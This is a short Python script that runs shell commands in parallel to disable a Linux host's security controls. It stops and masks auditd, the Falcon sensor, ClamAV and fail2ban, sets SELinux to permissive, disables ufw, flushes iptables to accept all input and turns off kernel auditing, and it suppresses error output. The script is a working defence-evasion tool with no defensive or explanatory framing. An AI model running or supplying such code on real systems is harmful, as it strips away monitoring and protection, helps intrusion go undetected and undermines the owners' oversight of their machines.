# switches off protection tools in parallel
import asyncio

STEPS = [
    "systemctl stop auditd falcon-sensor clamav-daemon fail2ban",
    "systemctl mask auditd falcon-sensor clamav-daemon fail2ban",
    "setenforce 0",
    "ufw --force disable",
    "iptables -P INPUT ACCEPT; iptables -F",
    "auditctl -e 0",
]


async def run(cmd):
    p = await asyncio.create_subprocess_shell(cmd, stderr=asyncio.subprocess.DEVNULL)
    await p.wait()


async def main():
    await asyncio.gather(*map(run, STEPS))


asyncio.run(main())
